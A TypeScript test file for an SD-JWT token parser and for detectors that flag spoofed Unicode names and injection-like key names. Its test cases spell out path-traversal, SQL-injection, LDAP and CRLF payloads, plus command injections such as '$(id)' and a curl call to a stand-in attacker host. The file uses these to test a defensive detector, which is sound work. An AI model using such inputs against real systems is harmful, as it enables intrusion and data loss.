import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readToken } from '../token/read-token'
import { confusionIn } from './confusion-in'
import { injectionIn } from './injection-in'
import { disclosureFaults } from './sd-disclosure-faults'
import { readDisclosed } from './sd-disclosures'
import { claimsWithDigest, disclosure, issuedWith, keyBinding } from './sd-jwt-example'
import { signingName } from './signing-name'

describe('an SD-JWT of any parts', () => {
  const encode = (text: string) => Buffer.from(text).toString('base64url')
  const part = fc.oneof(
    fc.constantFrom(disclosure, keyBinding, claimsWithDigest, '', '=', 'W10', encode('["a","_sd",{"_sd":["a","a"]}]')),
    fc.json().map(encode),
    fc.string(),
  )
  const claims = fc.oneof(
    fc.constant(claimsWithDigest),
    fc.json().map(encode),
    fc
      .constantFrom(
        '{"_sd":1}',
        '{"_sd":[1,null,{}]}',
        '[{"...":"a"}]',
        '{"a":[{"...":1},{"...":"a","b":1}],"_sd_alg":{}}',
      )
      .map(encode),
  )

  test('is read without throwing, and its faults are bounded and in order', () => {
    fc.assert(
      fc.property(claims, fc.array(part, { maxLength: 6 }), (payload, parts) => {
        const token = readToken(`${issuedWith(payload)}~${parts.join('~')}`)
        const faults = disclosureFaults(token)
        const starts = faults.map(({ at }) => at?.[0] ?? 0)
        expect(starts).toEqual(starts.toSorted((a, b) => a - b))
        for (const { sentence } of faults) expect(sentence).toMatch(/^[A-Z].*\.$/s)
        const disclosed = readDisclosed(token)
        if (disclosed) expect(disclosed.bound + (disclosed.keyBinding ?? '')).toBe(token.text)
      }),
      { numRuns: 1000 },
    )
  })

  test('with a hundred thousand disclosures or digests tells fifty faults at most', () => {
    const many = readToken(`${issuedWith('e30')}~${'W10~'.repeat(100_000)}`)
    expect(readDisclosed(many)?.count).toBe(100_000)
    expect(disclosureFaults(many)).toHaveLength(50)
    const digests = encode(JSON.stringify({ _sd: Array.from({ length: 100_000 }, () => 'a') }))
    expect(disclosureFaults(readToken(`${issuedWith(digests)}~`))).toHaveLength(50)
  })
})

test('no name makes the readers of names throw', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' })), (name) => {
      confusionIn(name)
      injectionIn(name)
      signingName(name)
    }),
    { numRuns: 1000 },
  )
})

test.each([
  ['\u202e', 'U+202E'],
  ['a\u00adb', 'U+00AD'],
  ['a\u200d', 'U+200D'],
  ['pаypal', 'Latin and Cyrillic'],
  ['αdmin', 'Latin and Greek'],
])('the name %j is said to have %s', (name, found) => {
  expect(confusionIn(name)).toContain(found)
})

test.each([
  ['../../../../../../dev/null', 'PATH'],
  ['/etc/passwd', 'PATH'],
  ['C:\\keys\\1', 'PATH'],
  ['\\\\host\\share', 'PATH'],
  ['file:///dev/null', 'PATH'],
  ["' OR 1=1", 'SQL'],
  ['x"; DROP TABLE keys', 'SQL'],
  ['a; curl https://attacker.example', 'COMMAND'],
  ['$(id)', 'COMMAND'],
  ['*)(|(uid=*', 'LDAP'],
  ['a%0d%0aX: y', 'CRLF'],
])('the name %j is said to look like %s', (name, reason) => {
  expect(injectionIn(name)?.reason).toBe(reason)
})

test.each(['key-1', 'a;b=c', "O'Neil", 'AND', 'a|b', '..', 'v1..v2', 'k/../', ''].map((name) => [name]))(
  'of the name %j only a path upwards is suspect',
  (name) => {
    expect(injectionIn(name)?.reason ?? null).toBe(name === '..' || name === 'k/../' ? 'PATH' : null)
  },
)
